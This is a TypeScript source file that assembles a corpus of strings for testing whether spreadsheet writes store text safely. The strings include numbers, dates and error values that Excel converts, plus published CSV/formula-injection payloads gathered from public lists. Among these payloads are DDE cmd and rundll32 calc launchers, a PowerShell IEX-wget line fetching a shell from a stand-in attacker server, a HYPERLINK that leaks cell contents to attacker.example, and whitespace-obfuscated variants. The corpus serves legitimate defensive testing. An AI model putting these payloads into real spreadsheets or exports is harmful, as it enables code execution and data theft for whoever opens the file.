// A corpus of strings that Excel would turn into something other than the same text if they were
// written naively: formulas (formula / CSV injection), DDE links, numbers, dates, booleans, errors.
// Every string must round-trip through a SheetPort as the same text with no formula in the cell.
//
// Sources (public formula-injection / CSV-injection lists; payloads copied as published, with the
// documented prefix and whitespace obfuscations applied systematically below):
//   - OWASP, "CSV Injection": https://owasp.org/www-community/attacks/CSV_Injection
//   - swisskyrepo/PayloadsAllTheThings, "CSV Injection/README.md"
//     https://github.com/swisskyrepo/PayloadsAllTheThings/blob/master/CSV%20Injection/README.md
//   - payloadbox/csv-injection-payloads, README.md: https://github.com/payloadbox/csv-injection-payloads
//   - thiem-dev/xssCat, MyPayloadAll/CSV-payloads.md (HackTricks-derived collection):
//     https://github.com/thiem-dev/xssCat/blob/main/MyPayloadAll/CSV-payloads.md
//   - Microsoft, "Range.values" remarks (a value starting with "=", "+" or "-" is read as a formula) and
//     "Number format codes" / error values for the conversion-bait strings.
// This file lives in src/ (not test/) because the Diagnostics view runs the same corpus inside real Excel;
// test/host/fixtures/hostile-strings.ts re-exports it.

/** The ten strings the issue names. */
export const ISSUE_STRINGS: readonly string[] = [
  '=HYPERLINK("http://x","y")',
  '=WEBSERVICE("http://example.invalid/leak")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
  "0001",
  "1/2",
  "2024-01-01",
  "TRUE",
  "#N/A",
];

/** Payloads as published in the lists above. */
const PUBLISHED: readonly string[] = [
  // OWASP / PayloadsAllTheThings / payloadbox
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
  "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
  "=         cmd|'/c calc.exe'!A",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
  "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
  '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "A1:B2")',
  '=IMPORTHTML("http://example.invalid", "table", 1)',
  '=IMPORTFEED("http://example.invalid/feed")',
  '=IMPORTDATA("http://example.invalid/data.csv")',
  // thiem-dev/xssCat
  "=rundll32|'URL.dll,OpenURL calc'!A",
  "-1-rundll32|'URL.dll,OpenURL calc'!A",
  "=rundll32|'URL.dll,OpenURL notepad'!A",
  "=rundll32|'URL.dll,OpenURL https://google.com'!A1",
  "=cmd|'/C calc'!A1@example.com",
  "+hack(cmd|'/c calc.exe'!A",
  "=hack/cmd|'/c calc.exe'!A",
  "-2+3+cmd|'/C calc'!A1",
  "-1-cmd|'/C calc'!'A1'",
  "--1-cmd|'/C calc'!'A1'",
  "=cmd|'/C calc'!'A2'",
  "=cmd|'/C mspaint'!'A2'",
  'DDE("cmd";"/C calc";"!A0")A0 ',
  '=EXEC("calc.exe")',
  "=rundll32|'shell32.dll,ShellExec_RunDLL calc'!A1",
  "=rundll32|'zipfldr.dll,RouteTheCall calc'!A1",
  "=rundll32|'shell32.dll,Control_RunDLL timedate.cpl'!A1",
  "=rundll32|'shell32.dll,Control_RunDLL appwiz.cpl'!A1",
  "=cmd|'/c calc'!'a2',",
  "\t=\tc\tm\td\t|'/C notepad'!'A2',",
  "=\ncmd|'/C calc'!A1",
  "\"=cmd|'/C calc'!'A1'\"",
  "parsebreaker\" ;,=cmd|'/C notepad'!'A1'",
  "\\---1-cmd|'/C calc'!'A1'",
  "\t--1-cmd|'/C calc'!'A1'",
  "\n--4-cmd|'/C calc'!'A1'",
  "\r=cmd|' /C calc'!A1",
  "\r\",;=cmd|' /C calc'!A1",
  "\u200B=cmd|' /C calc'!A0",
  "\u00A0=cmd|' /C calc'!A1",
  "file:///C:/Windows/System32/calc.exe",
  '+HYPERLINK("file:///C:/Windows/System32/notepad.exe")',
  '@HYPERLINK(CHAR(34)&"file:///C:/Windows/System32/notepad.exe"&CHAR(34))',
  '=HYPERLINK(T("file:///C:/Windows/System32/cmd.exe"), "ClickMe")',
  '@HYPERLINK(""file:///C:/Windows/System32/notepad.exe"")',
  '=HYPERLINK("http://google.com", "Error: click to fix")',
  '=WEBSERVICE("http://google.com")',
  '=WEBSERVICE("http://bing.com")',
  '@HYPERLINK("file:///C:/Windows/"&CHAR(83)&"ystem32/cmd.exe")',
  '@HYPERLINK("file:///C:"&CHAR(47)&"Windows"&CHAR(47)&"System32"&CHAR(47)&"cmd.exe")',
  "@WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(115)&CHAR(58)&CHAR(47)&CHAR(47))",
  '=HYPERLINK(G2,"Click Me")',
  "\uFF1Dcmd|/C calc!A1",
  "+cmd|/C calc!A1",
  "\uFEFF\t=cmd|'/C calc'!A0",
  "cmd|'/C calc'!A0,?",
  "1e3",
  "1e4",
  "+1E+9",
  "-123456",
  '=HYPERLINK("http://attacker.example?leak="&A1, "Click Me")',
  "=1+1",
  '=IMPORTXML(CONCAT("http://example.invalid/?v=", CELL("address")), "//a")',
];

/** Strings Excel's value parser would convert to numbers, dates, times, booleans or errors (en-US). */
const CONVERSION_BAIT: readonly string[] = [
  "00123",
  "007",
  "0",
  "-0",
  "+5",
  "1.50",
  "1,234",
  "1,234.56",
  "12345678901234567890",
  "3.14159265358979323846",
  "1E+308",
  "2e-5",
  "50%",
  "-12.5%",
  "$5",
  "$1,000.00",
  "(100)",
  "1 1/2",
  "3/4",
  "12/31",
  "2024-12-31",
  "2024/01/01",
  "01/02/2024",
  "1-Jan",
  "Jan 2026",
  "January 1, 2026",
  "31-Dec-2025",
  "12:30",
  "12:30:45",
  "1:00 PM",
  "2024-01-01T10:00:00",
  "2024-01-01 10:00",
  "FALSE",
  "true",
  "false",
  "True",
  "#REF!",
  "#DIV/0!",
  "#VALUE!",
  "#NAME?",
  "#NULL!",
  "#NUM!",
  "#SPILL!",
  "#CALC!",
  "#GETTING_DATA",
  "#FIELD!",
  "#BLOCKED!",
  "#UNKNOWN!",
  "#BUSY!",
  "#CONNECT!",
  "'quoted",
  "''",
  "'=1+1",
  "-",
  "+",
  "=",
  "@",
  "--",
  "==",
  "+-",
];

/** Prefixes the lists above use to slip a formula past naive filters (leading whitespace and control characters). */
const OBFUSCATION_PREFIXES: readonly string[] = ["", " ", "\t", "\r", "\n", "\u00A0", "\u3000"];
/** Formula starters Excel accepts (OWASP: "=", "+", "-", "@"). */
const STARTERS: readonly string[] = ["=", "+", "-", "@"];
const BODIES: readonly string[] = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x","y")',
  'WEBSERVICE("http://example.invalid")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  "2+5+cmd|' /C calc'!A0",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'EXEC("calc.exe")',
  "1+1",
];

function generated(): string[] {
  const out: string[] = [];
  for (const prefix of OBFUSCATION_PREFIXES) for (const s of STARTERS) for (const b of BODIES) out.push(prefix + s + b);
  return out;
}

/** The full corpus, de-duplicated, issue strings first. */
export const HOSTILE_STRINGS: readonly string[] = [...new Set([...ISSUE_STRINGS, ...PUBLISHED, ...CONVERSION_BAIT, ...generated()])];
